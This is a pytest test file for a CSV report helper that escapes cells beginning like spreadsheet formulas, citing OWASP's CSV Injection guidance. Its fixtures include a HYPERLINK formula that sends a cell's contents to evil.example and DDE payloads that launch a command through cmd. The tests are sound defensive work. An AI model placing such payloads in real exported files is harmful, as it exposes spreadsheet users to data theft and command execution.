"""Cells of the CSV reports: text that a spreadsheet would run as a formula is made plain text (OWASP, "CSV
Injection"); everything else is written as it is."""

from __future__ import annotations

import pytest

from broadcast.services.report_files import csv_cell


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'),
    ("+84 912 345 678", "'+84 912 345 678"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Đài phường Hà Giang 1 - Tổ 5", "Đài phường Hà Giang 1 - Tổ 5"),  # a dash inside is no formula
    ("HG1-01", "HG1-01"),
    ("", ""),
    ("'=already quoted", "'=already quoted"),
    (-5, -5),  # numbers stay numbers (the report's figures are never negative, but a number is no formula)
    (120, 120),
])
def test_text_starting_like_a_formula_gets_an_apostrophe(value, written):
    assert csv_cell(value) == written
